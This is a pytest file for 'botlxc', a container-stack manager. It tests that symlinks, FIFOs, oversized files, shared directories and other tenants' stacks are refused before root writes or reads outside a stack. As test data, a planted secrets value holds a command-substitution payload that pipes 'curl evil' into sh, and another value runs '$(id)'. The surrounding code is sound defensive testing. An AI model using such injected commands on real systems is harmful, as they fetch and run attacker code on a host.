"""The trust boundary, at the host side: what a container's root can plant in the dirs
mounted into it, and what another local user can plant around a stack, never makes botlxc
(as root) write, truncate, chown or read anything outside the stack, nor hang.

These tests build the planted files for real in tmp_path; the subprocess seam stays the
only fake (nothing here runs a command)."""
import os
import re
import stat

import pytest

import botlxc
from conftest import make_spec, prepare_stack, register_ready, secrets_read, up_world
from test_up import register_install


@pytest.fixture
def canary(tmp_path):
    """A host file outside every stack: its bytes, mode, owner and mtime must not move."""
    path = tmp_path / "host" / "canary.txt"
    path.parent.mkdir()
    path.write_text("host file, not botlxc's\n")
    path.chmod(0o644)
    before = os.stat(path)
    yield path
    after = os.stat(path)
    assert path.read_text() == "host file, not botlxc's\n"
    assert (after.st_mode, after.st_uid, after.st_gid, after.st_mtime_ns, after.st_size) == (
        before.st_mode, before.st_uid, before.st_gid, before.st_mtime_ns, before.st_size)
    assert sorted(p.name for p in path.parent.iterdir()) == ["canary.txt"]


# ----------------------------------------------------------------------------- reads


def test_read_file_never_follows_a_link(tmp_path, canary):
    (tmp_path / "link").symlink_to(canary)
    with pytest.raises(botlxc.BotlxcError, match="it is a symbolic link"):
        botlxc.read_file(tmp_path / "link")


def test_read_file_refuses_dev_zero_a_fifo_and_a_dir_without_hanging(tmp_path):
    os.mkfifo(tmp_path / "fifo")  # nobody writes: a blocking open would hang forever
    (tmp_path / "dir").mkdir()
    for path in (botlxc.Path("/dev/zero"), tmp_path / "fifo", tmp_path / "dir"):
        with pytest.raises(botlxc.BotlxcError, match="not a regular file|Is a directory"):
            botlxc.read_file(path)


def test_read_file_is_bounded(tmp_path):
    big = tmp_path / "big"
    big.write_bytes(b"A" * (botlxc.MAX_READ + 1))
    with pytest.raises(botlxc.BotlxcError, match="larger than %d bytes" % botlxc.MAX_READ):
        botlxc.read_file(big)
    big.write_bytes(b"A" * botlxc.MAX_READ)
    assert len(botlxc.read_file(big)) == botlxc.MAX_READ
    assert botlxc.read_file(tmp_path / "missing") is None
    (tmp_path / "binary").write_bytes(b"\xff\xfe")
    with pytest.raises(botlxc.BotlxcError, match="not UTF-8"):
        botlxc.read_file(tmp_path / "binary")


def test_write_private_replaces_a_planted_link_instead_of_writing_through_it(tmp_path, canary):
    (tmp_path / ".env").symlink_to(canary)
    botlxc.write_private(tmp_path / ".env", "MINE=1\n")
    assert not (tmp_path / ".env").is_symlink()
    assert (tmp_path / ".env").read_text() == "MINE=1\n"
    assert stat.S_IMODE((tmp_path / ".env").stat().st_mode) == 0o600


# ----------------------------------------------------------------------------- paths


def test_a_stack_path_through_a_link_is_refused(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "via").symlink_to(tmp_path / "real")
    with pytest.raises(botlxc.BadInput, match="is a symbolic link; give the real path"):
        botlxc.check_host_path(tmp_path / "via" / "stack")


def test_a_stack_below_a_dir_others_can_write_is_refused(tmp_path):
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)  # not sticky: anyone may rename or plant entries here
    with pytest.raises(botlxc.BadInput, match="can be written by other users"):
        botlxc.check_host_path(shared / "botserver-stack")
    shared.chmod(0o1777)  # sticky (/tmp): fine above a dir that is root's ...
    (shared / "mine").mkdir()
    assert botlxc.check_host_path(shared / "mine" / "stack") == shared / "mine" / "stack"
    # ... but a dir still to be created there could be planted by anyone first
    with pytest.raises(botlxc.BadInput, match="can be written by other users"):
        botlxc.check_host_path(shared / "not-yet" / "stack")


@pytest.mark.skipif(os.geteuid() != 0, reason="another user's dir needs root to make")
def test_a_stack_in_another_users_dir_is_refused(tmp_path):
    theirs = tmp_path / "home-alice"
    theirs.mkdir()
    os.chown(theirs, 4242, 4242)
    with pytest.raises(botlxc.BadInput, match="belongs to uid 4242"):
        botlxc.check_host_path(theirs / "stack")


def test_planted_entries_inside_a_stack_are_refused(tmp_path, canary):
    stack = tmp_path / "stack"
    (stack / "cache").mkdir(parents=True)
    (stack / "cache" / "data").symlink_to(canary.parent)  # e.g. -> /etc
    with pytest.raises(botlxc.BadInput, match="cache/data is a symbolic link"):
        botlxc.check_stack_entries(stack, botlxc.COMPONENTS)
    (stack / "cache" / "data").unlink()
    (stack / ".env").symlink_to(canary)
    with pytest.raises(botlxc.BadInput, match=r"\.env is a symbolic link"):
        botlxc.check_stack_entries(stack, botlxc.COMPONENTS)


# ----------------------------------------------------------------------------- up


def planted(tmp_path, canary, how):
    """A tenant that is up, whose containers planted `how` on their conf mounts."""
    spec = make_spec(tmp_path, components=("tables",))
    world = up_world(spec)
    legacy = tmp_path / "stack/tables/conf/secrets.env"
    if how == "link to a host file":
        legacy.symlink_to(canary)
    elif how == "link to /dev/zero":
        legacy.symlink_to("/dev/zero")
    elif how == "fifo":
        os.mkfifo(legacy)
    elif how == "huge":
        legacy.write_bytes(b"TABLES_PASSWORD=" + b"x" * (1 << 20))
    elif how == "shell in a value":
        legacy.write_text("TABLES_PASSWORD=$(curl evil|sh)\n")
    # and the host copy is gone, so botlxc would look at the legacy one
    (tmp_path / "stack/.botlxc/secrets/tables.env").unlink()
    return spec, world


@pytest.mark.parametrize("how", ["link to a host file", "link to /dev/zero", "fifo", "huge",
                                 "shell in a value"])
def test_planted_legacy_secrets_never_reach_the_host(calls, tmp_path, canary, how, capsys):
    spec, world = planted(tmp_path, canary, how)
    register_ready(calls, world)
    secrets_read(calls, spec, "tables")  # the old secrets, still in the container
    register_install(calls, str(spec.stack), "acme-tables", "tables", running=True)
    runner = botlxc.Runner()
    assert botlxc.up(runner, spec)[1] == {}
    assert calls.made() == calls.expected
    # a new secret, pushed from the host's copy; the install applies it to PostgreSQL
    master = (tmp_path / "stack/.botlxc/secrets/tables.env").read_text()
    assert re.fullmatch(r"TABLES_PASSWORD=[A-Za-z0-9]{32}\n", master)
    env = (tmp_path / "stack/.env").read_text()
    assert "$(" not in env and "evil" not in env and master.split("=")[1].strip() in env


def test_a_planted_env_link_is_refused_before_any_change(calls, tmp_path, canary):
    spec = make_spec(tmp_path)
    world = up_world(spec)
    (tmp_path / "stack/.env").unlink()
    (tmp_path / "stack/.env").symlink_to(canary)
    register_ready(calls, world)
    runner = botlxc.Runner()
    with pytest.raises(botlxc.BadInput, match=r"\.env is a symbolic link"):
        botlxc.up(runner, spec)
    assert runner.actions == [] and calls.made() == calls.expected


def test_another_tenants_stack_is_refused(calls, tmp_path):
    beta = make_spec(tmp_path, tenant="beta", components=("tables",))
    prepare_stack(beta)  # beta's marker is in the stack
    spec = make_spec(tmp_path, components=("tables",))  # acme, same --stack-dir
    register_ready(calls)
    runner = botlxc.Runner()
    with pytest.raises(botlxc.BadInput) as failed:
        botlxc.up(runner, spec)
    assert str(failed.value) == (
        "stack %s belongs to tenant beta (%s); give tenant acme its own --stack-dir"
        % (tmp_path / "stack", tmp_path / "stack/.botlxc/tenant"))
    assert failed.value.exit_code == 2
    assert runner.actions == [] and calls.made() == calls.expected


def test_a_stack_labelled_as_another_tenants_is_refused_even_without_a_marker(calls, tmp_path):
    """A stack from botlxc < 0.3 has no marker: LXD's labels still say whose it is."""
    beta = make_spec(tmp_path, tenant="beta", components=("tables",))
    world = up_world(beta)
    (tmp_path / "stack/.botlxc/tenant").unlink()
    spec = make_spec(tmp_path, components=("tables",))
    register_ready(calls, world)
    runner = botlxc.Runner()
    with pytest.raises(botlxc.BadInput, match="stack .* is in use by tenant beta"):
        botlxc.up(runner, spec)
    assert runner.actions == []


def test_the_secrets_command_refuses_another_tenants_stack(tmp_path, capsys):
    beta = make_spec(tmp_path, tenant="beta", components=("tables",))
    prepare_stack(beta)
    before = (tmp_path / "stack/.env").read_text()
    code = botlxc.main(["secrets", "--tenant", "acme", "--stack-dir", str(tmp_path / "stack"),
                        "--port", "tables.pg=5432"])
    assert code == 2
    assert capsys.readouterr().err == "botlxc: error: stack %s belongs to tenant beta, not " \
                                      "acme\n" % (tmp_path / "stack")
    assert (tmp_path / "stack/.env").read_text() == before


# ----------------------------------------------------------------------------- ports


def test_a_port_botlxc_chose_that_someone_took_is_chosen_again(calls, tmp_path, capsys):
    """The tenant's cache is stopped; meanwhile a host process took 6379."""
    spec = make_spec(tmp_path, components=("cache",), services=False)
    world = up_world(spec)
    world[0]["status"] = "Stopped"
    register_ready(calls, world, listeners={6379: ("redis-server", 4711)})
    runner = botlxc.Runner(dry_run=True)
    ports, _ = botlxc.up(runner, spec)
    assert ports == {("cache", "valkey"): 6380}
    assert "ports: 6379 (cache.valkey) is held by redis-server (pid 4711) now; choosing " \
           "another" in capsys.readouterr().err
    assert [a.argv for a in runner.actions][:2] == [
        ["lxc", "config", "device", "add", "acme-cache", "port-6380", "proxy",
         "listen=tcp:127.0.0.1:6380", "connect=tcp:127.0.0.1:6379"],
        ["lxc", "config", "device", "remove", "acme-cache", "port-6379"]]


def test_a_pinned_port_someone_took_is_an_error_naming_the_holder(calls, tmp_path):
    spec = make_spec(tmp_path, components=("cache",), services=False)
    world = up_world(spec)
    world[0]["status"] = "Stopped"
    world[0]["config"]["user.botlxc.pinned"] = "valkey"
    register_ready(calls, world, listeners={6379: ("redis-server", 4711)})
    runner = botlxc.Runner()
    with pytest.raises(botlxc.BotlxcError) as failed:
        botlxc.up(runner, spec)
    assert str(failed.value) == ("port 6379, picked for cache.valkey, is held by redis-server "
                                 "(pid 4711); free it or pick another with --port "
                                 "cache.valkey=PORT")
    assert runner.actions == []


def test_a_running_tenants_own_port_is_kept(calls, tmp_path):
    """Its own proxy listens on the port: that is not someone else."""
    spec = make_spec(tmp_path, components=("cache",), services=False)
    register_ready(calls, up_world(spec), listeners={6379: ("lxd", 300)})
    runner = botlxc.Runner()
    assert botlxc.up(runner, spec)[0] == {("cache", "valkey"): 6379}
    assert runner.actions == []


def test_a_loser_of_a_port_race_moves_off_the_winners_port(calls, tmp_path):
    """Before the host lock, three tenants could all take 6379; the winner runs."""
    spec = make_spec(tmp_path, components=("cache",), services=False)
    world = up_world(spec)
    world[0]["status"] = "Stopped"  # it failed to start: the port was taken
    winner = make_spec(tmp_path / "w", tenant="beta", components=("cache",))
    register_ready(calls, world + up_world(winner), listeners={6379: ("lxd", 300)})
    ports, _ = botlxc.up(botlxc.Runner(dry_run=True), spec)
    assert ports == {("cache", "valkey"): 6380}


def test_validation_takes_whole_names_only():
    for bad in ("acme\n", "acme\nbeta", "ac me"):
        with pytest.raises(botlxc.BadInput):
            botlxc.validate_tenant(bad)
    with pytest.raises(botlxc.BadInput):
        botlxc.validate_image("botlxc/debian-12\n")
    with pytest.raises(botlxc.BadInput):
        botlxc.parse_port_picks(["tables=5432\n"], botlxc.COMPONENTS)


def test_secrets_files_hold_only_shaped_values():
    text = "TABLES_PASSWORD=short\nCACHE_PASSWORD=%s\nEVIL=$(id)\n" % ("a" * 32)
    assert botlxc.parse_secrets(text, ("TABLES_PASSWORD", "CACHE_PASSWORD")) == {
        "CACHE_PASSWORD": "a" * 32}


@pytest.mark.skipif(os.geteuid() != 0, reason="chown to other ids needs root")
def test_shifting_ids_moves_only_the_old_range_and_never_follows_a_link(tmp_path, canary):
    old, new = 100000, 165536
    data = tmp_path / "stack/tables/data"
    (data / "pgdata").mkdir(parents=True)
    (data / "pgdata/PG_VERSION").write_text("15\n")
    (data / "link-out").symlink_to(canary)                 # planted: must not be followed
    (data / "dir-link").symlink_to(canary.parent, target_is_directory=True)
    owners = ((data, old), (data / "pgdata", old + 102), (data / "pgdata/PG_VERSION", old + 102))
    for path, uid in owners:
        os.chown(path, uid, uid)
    os.chown(data / "link-out", old + 5, old + 5, follow_symlinks=False)
    botlxc.shift_ids([data], old, new)
    assert os.stat(data).st_uid == new
    assert os.stat(data / "pgdata").st_uid == new + 102
    assert os.stat(data / "pgdata/PG_VERSION").st_gid == new + 102
    assert os.lstat(data / "link-out").st_uid == new + 5   # the link itself
    # the canary fixture checks the host file and its dir were not touched


def test_shifting_refuses_a_top_dir_that_is_a_link(tmp_path, canary):
    (tmp_path / "data").symlink_to(canary.parent, target_is_directory=True)
    with pytest.raises(botlxc.BotlxcError, match="is a symbolic link"):
        botlxc.shift_ids([tmp_path / "data"], 100000, 165536)


def test_whose_ids_the_host_dirs_have_comes_from_the_host_not_the_container(calls, tmp_path):
    """A container that chowns its conf dir cannot make host root shift anything: the
    host's record (and LXD's idmap) say whose the files are."""
    from conftest import OWNER
    spec = make_spec(tmp_path, components=("cache",), services=False)
    world = up_world(spec)
    if os.geteuid() == 0:
        os.chown(tmp_path / "stack/cache/conf", OWNER + 4242, OWNER + 4242)  # its doing
    register_ready(calls, world)
    runner = botlxc.Runner(dry_run=True)
    botlxc.up(runner, spec)
    assert not any("shift-ids" in a.argv for a in runner.actions)
    assert runner.actions == []


def test_a_tenant_made_again_after_down_keeps_the_ids_its_files_have(tmp_path):
    from conftest import facts
    spec = make_spec(tmp_path, host=facts(subuid_base=100000, subuid_size=10000001))
    assert botlxc.allocate_bases(spec, {"all": [], "mine": {}}, {"tables": 427680}) == {
        "tables": 427680, "drive": 165536, "cache": 231072}
